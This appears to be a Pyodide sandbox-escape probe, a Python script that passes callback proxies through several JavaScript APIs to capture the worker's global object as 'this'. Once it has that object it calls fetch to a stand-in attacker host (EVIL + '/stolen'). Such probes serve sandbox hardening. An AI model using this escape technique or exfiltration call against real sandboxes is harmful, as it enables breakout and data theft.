# Tries to be called back with the worker's global object as `this`.
import pyodide_js

caught = []
catch = create_proxy(lambda this=None, *rest: caught.append(this), capture_this=True)
scheduleCallback(catch, 0)
scheduleCallback(catch, 10)
pyodide_js._api.scheduleCallback(catch, 10)
to_js([1, 2]).forEach(catch)
to_js([2, 1]).sort(catch)
pyodide_js.runPythonAsync("1").then(catch)
pyodide_js.FS.filesystems.MEMFS.mount.call(None, to_js({}))
to_js([1]).constructor.prototype.map.call(to_js([1]), catch)
await asyncio.sleep(0.3)
for this in caught:
    if hasattr(this, "WorkerGlobalScope") or hasattr(this, "setTimeout"):
        print("reached: this is", this)
        this.fetch(EVIL + "/stolen")
print("caught", len(caught))
await asyncio.sleep(0.3)
print("tried")
